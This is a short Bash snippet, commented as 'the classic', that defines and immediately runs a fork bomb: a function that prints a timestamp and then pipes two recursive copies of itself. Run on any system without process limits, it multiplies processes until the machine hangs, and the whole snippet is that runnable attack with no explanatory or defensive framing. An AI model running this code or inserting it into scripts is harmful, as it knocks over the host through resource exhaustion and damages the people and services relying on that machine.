# The classic, in the foreground.
bomb() { echo "at $EPOCHREALTIME"; bomb | bomb; }
bomb
